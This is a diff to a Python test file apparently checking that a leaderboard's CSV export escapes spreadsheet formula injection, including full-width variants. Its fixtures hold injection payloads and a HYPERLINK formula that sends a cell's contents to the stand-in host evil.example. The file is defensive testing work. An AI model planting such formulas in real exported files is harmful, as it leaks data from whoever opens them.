@@ -11,7 +11,7 @@ from leaderboard.insights.exports import Table, csv_cell, latex_escape, markdown
 from leaderboard.models import Submission
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-HOSTILE = ["-2+3", "+1", "@SUM(A1)", "\t=1", "\r=1", FORMULA]
+HOSTILE = ["-2+3", "+1", "@SUM(A1)", "\t=1", "\r=1", FORMULA, "＝1+2", "＋1", "－2+3", "＠SUM(A1)"]  # full-width too
 
 
 def table(name: str) -> Table:
@@ -25,6 +25,16 @@ def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(name):
     rows = list(csv.reader(io.StringIO(to_csv(table(name)), newline="")))
     assert rows[1][2] == "'" + name
     assert rows[2][3] == "-0.25"  # numbers stay numbers, negative ones too
+
+
+@pytest.mark.parametrize("name", [*HOSTILE, "'=1+2", "''＠x", "'plain", "plain"])
+def test_every_escaped_cell_reads_back_as_it_was(name):
+    """``'=1+2`` was written as is and read back as ``=1+2``: a re-imported ratings file
+    named another system."""
+    from scoring.fields.spreadsheet import FORMULA_STARTS, read_cell, safe_cell
+
+    assert read_cell(safe_cell(name)) == name
+    assert (safe_cell(name) != name) == name.lstrip("'").startswith(FORMULA_STARTS)
 
 
 def test_plain_cells_are_left_alone():
